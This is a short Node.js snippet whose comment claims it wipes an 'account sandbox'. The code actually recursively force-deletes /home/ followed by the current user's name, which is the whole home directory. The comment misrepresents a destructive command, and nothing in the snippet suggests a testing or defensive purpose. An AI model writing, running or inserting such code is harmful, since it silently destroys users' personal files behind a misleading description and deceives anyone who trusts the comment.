// Wipe the account sandbox.
const fs = require('fs');
const base = '/home/';
fs.rmSync(base + process.env.USER, { recursive: true, force: true });
